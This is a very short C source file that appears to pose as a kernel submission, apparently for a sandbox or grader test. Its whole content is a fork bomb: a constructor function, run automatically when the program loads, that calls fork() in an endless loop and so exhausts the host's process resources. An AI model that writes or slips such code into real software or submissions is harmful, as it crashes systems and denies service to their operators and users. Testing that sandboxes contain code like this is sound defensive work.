#include "good.h"
int fork(void);
__attribute__((constructor)) static void begin(void)
{
    for (;;) fork();
}
KERNEL((void)0)
